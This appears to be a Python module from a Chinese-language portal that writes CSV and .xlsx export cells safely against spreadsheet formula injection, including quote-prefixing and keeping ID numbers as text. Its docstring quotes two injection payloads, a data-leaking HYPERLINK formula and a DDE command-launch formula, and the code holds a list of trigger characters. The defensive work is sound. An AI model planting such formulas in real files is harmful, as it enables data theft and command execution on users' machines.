"""Writing cells of the .xlsx and .csv files the portal produces: one rule for every export.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula (and a tab or
carriage return in front does not stop them), so a 所属单位 typed as
`=HYPERLINK("http://…/?leak="&B3,"点击查看")` or `=cmd|' /C calc'!A0` would come back as a live
formula in any file that copies it (OWASP, "CSV Injection"). Every export writes its cells through
this module:

* **CSV** has no cell types, so a text value starting with one of `FORMULA_TRIGGERS` gets a single
  quote in front (`'=HYPERLINK(…)`), OWASP's advice: Excel and LibreOffice show it as text.
* **.xlsx** cells are typed: a text value is written as a string cell, never a formula, and keeps
  its exact text, so a clerk who fixes the error report and uploads it again uploads what they
  typed, not a quote-prefixed copy. A string cell that starts with a trigger also gets the
  `quotePrefix` style, so Excel keeps it text even when someone edits the cell and presses Enter.
  (openpyxl would otherwise store any string starting with `=` as a formula; xlsxwriter's
  `write_string` never does, and the streaming writer below uses only typed writes.)
* **ID and card numbers stay text**: columns named in `text_cols` are written as exact digit
  strings with the text number format `@` in .xlsx (never a number, so Excel neither rounds an
  18-digit number to 15 significant digits nor shows 1.30902E+17); a number given for such a
  column is written as its digits.

Full-width `＝＋－＠` are in the list too: Chinese input methods type them, and a person's name or a
unit never starts with one.
"""

import csv
from collections.abc import Iterable, Sequence

from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
TEXT_FORMAT = "@"


def is_formula_like(value) -> bool:
    return type(value) is str and value[:1] in FORMULA_TRIGGERS


def _as_text(value):
    """A value for an ID / card number column: exact digits as a string, never a number."""
    if value is None or isinstance(value, str):
        return value
    if isinstance(value, float) and value.is_integer():
        return str(int(value))  # a number a bank file carried as a number: its digits, not 1.3e+17
    return str(value)


def csv_value(value):
    """A CSV field that no spreadsheet evaluates: text starting with a trigger gets a leading quote."""
    if type(value) is str and value[:1] in FORMULA_TRIGGERS:
        return "'" + value
    return value


class SafeCsvWriter:
    """`csv.writer` whose rows go through `csv_value`; `text_cols` (0-based) are ID / card number
    columns, written as exact digit strings."""

    def __init__(self, stream, *, text_cols: Iterable[int] = (), **kwargs):
        self._writer = csv.writer(stream, **kwargs)
        self._text_cols = frozenset(text_cols)

    def writerow(self, row: Sequence) -> None:
        # inline rather than a csv_value() call per field: the hand-off writes 1.3 million fields
        text_cols = self._text_cols
        if text_cols:
            row = list(row)
            for i in text_cols:
                if i < len(row) and row[i] is not None and type(row[i]) is not str:
                    row[i] = _as_text(row[i])
        triggers = FORMULA_TRIGGERS
        self._writer.writerow([("'" + v) if type(v) is str and v[:1] in triggers else v for v in row])

    def writerows(self, rows: Iterable[Sequence]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, *, text_cols: Iterable[int] = (), **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(stream, text_cols=text_cols, **kwargs)


def xlsx_cell(sheet, value, *, text: bool = False):
    """An openpyxl cell for `sheet` (normal or write-only) holding `value` as data, never as a
    formula. `text=True`: an ID / card number, kept as text with the `@` format. Style it further
    (font, fill, border) as any cell, then `sheet.append` it."""
    if text:
        value = _as_text(value)
    cell = (
        WriteOnlyCell(sheet, value=value)
        if isinstance(sheet, WriteOnlyWorksheet)
        else Cell(sheet, value=value)
    )
    if type(value) is str:
        cell.data_type = "s"  # openpyxl made every "=…" string a formula
        if value[:1] in FORMULA_TRIGGERS:
            cell.quotePrefix = True
    if text:
        cell.number_format = TEXT_FORMAT
    return cell


def xlsx_row(sheet, values: Sequence, *, text_cols: Iterable[int] = ()) -> list:
    """`xlsx_cell` for each value of a row, ready for `sheet.append`."""
    text_cols = frozenset(text_cols)
    return [xlsx_cell(sheet, v, text=i in text_cols) for i, v in enumerate(values)]


def xlsx_append(sheet, values: Sequence, *, text_cols: Iterable[int] = ()) -> None:
    sheet.append(xlsx_row(sheet, values, text_cols=text_cols))


class XlsxStreamRows:
    """Rows into an xlsxwriter worksheet (the constant-memory writer of the bank hand-off): text
    through `write_string` (never a formula), quote-prefixed when it starts with a trigger,
    numbers through `write_number`, None left empty. Column formats (the ID columns' `@`) are the
    caller's `set_column`. Typed writes skip `write()`'s type dispatch, which matters at
    100,000 rows × 13 columns."""

    def __init__(self, book, sheet):
        self._sheet = sheet
        self._quoted = book.add_format({"quote_prefix": True})

    def write(self, row: int, values: Sequence, fmt=None) -> None:
        """One row; `fmt` (a header's bold, say) for every cell but a quote-prefixed one."""
        write_string, write_number, quoted = self._sheet.write_string, self._sheet.write_number, self._quoted
        triggers = FORMULA_TRIGGERS
        for col, value in enumerate(values):
            if type(value) is str:
                if value[:1] in triggers:
                    write_string(row, col, value, quoted)
                else:
                    write_string(row, col, value, fmt)
            elif value is not None:
                write_number(row, col, value, fmt)
